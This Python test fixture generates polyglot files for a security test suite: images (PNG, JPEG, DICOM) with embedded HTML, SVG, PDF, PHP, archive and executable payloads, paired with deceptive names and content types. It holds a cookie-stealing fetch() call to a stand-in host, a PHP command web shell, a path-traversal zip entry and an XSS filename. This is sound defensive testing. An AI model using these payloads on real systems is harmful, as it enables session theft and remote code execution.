"""Files that are an image and something else as well: for each, what a browser or a system might take it for."""

import io
import itertools
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

from tests.hostile import bombs

# Stands in every payload, and must stand in nothing that is shown.
CANARY = b"overread-canary-7f3a"
_SCRIPT = b"fetch('//example.org/'+document.cookie)//" + CANARY


def _archive(names: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in names.items():
            archive.writestr(name, content)
    return out.getvalue()


PAYLOADS: dict[str, bytes] = {
    "html": b"<!doctype html><html><body><script>" + _SCRIPT + b"\n</script></body></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + _SCRIPT + b'"/>',
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>'
    + _SCRIPT
    + b"</script></html>",
    "xslt": b'<?xml version="1.0"?><?xml-stylesheet href="#s" type="text/xsl"?><x id="s">' + CANARY + b"</x>",
    "javascript": b"*/;" + _SCRIPT + b"\n/*",
    "php": b"<?php system($_GET['c']); // " + CANARY + b" ?>",
    "shell": b"\n#!/bin/sh\necho " + CANARY + b"\n",
    "mhtml": b"\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>" + _SCRIPT + b"</script>\r\n",
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\('" + CANARY + b"'\\))>>>>endobj\n%%EOF",
    "zip": _archive({"../../evil.html": b"<script>" + _SCRIPT}),
    "jar": _archive({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": b"\xca\xfe\xba\xbe" + CANARY}),
    "gif": b"GIF89a/*" + CANARY + b"*/=1;" + _SCRIPT,
    "exe": b"MZ\x90\x00" + bytes(56) + CANARY + b"This program cannot be run in DOS mode.",
    "flash": b"FWS\x09" + struct.pack("<I", 64) + CANARY,
}
# What whoever sends it says that it is: name and content type.
CLAIMS = (
    ("scan.png.html", "text/html"),
    ("scan.svg", "image/svg+xml"),
    ("scan.jpg.js", "text/javascript"),
    ("scan.dcm.exe", "application/x-msdownload"),
    ("../../static/scan.html", "text/html; charset=utf-7"),
    ("scan.pdf", "application/pdf"),
    ("scan.xhtml", "application/xhtml+xml"),
    ("scan.jpg", "image/jpeg"),
    ('"><img src=x onerror=alert(1)>.png', "image/png"),
)


@dataclass(frozen=True)
class Polyglot:
    """One file; ``claim`` is the name and the content type that it comes with."""

    name: str
    data: bytes
    claim: tuple[str, str]


def _in_png(payload: bytes) -> dict[str, bytes]:
    good = bombs.small_png()
    return {
        "behind": good + payload,
        "text": bombs.in_small_png(bombs.chunk(b"tEXt", b"Comment\0" + payload)),
        "unknown chunk": bombs.in_small_png(bombs.chunk(b"evIl", payload)),
        "palette of grey": bombs.in_small_png(bombs.chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + payload)),
    }


def _in_jpeg(payload: bytes) -> dict[str, bytes]:
    good = bombs.jpeg()
    return {
        "behind": good + payload,
        "comment": good[:2] + bombs.segment(0xFE, payload) + good[2:],
        "application data": good[:2] + bombs.segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + payload) + good[2:],
    }


def _in_dicom(payload: bytes) -> dict[str, bytes]:
    good = bombs.dicom()
    element = struct.pack("<HH2sHI", 0x0029, 0x1010, b"OB", 0, len(payload) + len(payload) % 2) + payload
    return {
        # 128 bytes that belong to nobody.
        "preamble": payload[:128].ljust(128, b"\n") + good[128:],
        "private element": bombs.with_elements(element + bytes(len(payload) % 2)),
        "patient's comments": bombs.dicom(PatientComments=payload.decode("latin-1")),
    }


def polyglots() -> Iterator[Polyglot]:
    """Every payload at every place of every kind of image, the claims in turn; then payloads before an image."""
    claims = itertools.cycle(CLAIMS)
    for what, payload in PAYLOADS.items():
        for kind, places in (("png", _in_png), ("jpeg", _in_jpeg), ("dicom", _in_dicom)):
            for place, data in places(payload).items():
                yield Polyglot(f"{what} in {kind}: {place}", data, next(claims))
        yield Polyglot(f"{what} before png", payload + bombs.small_png(), next(claims))
        yield Polyglot(f"{what} alone", payload, next(claims))
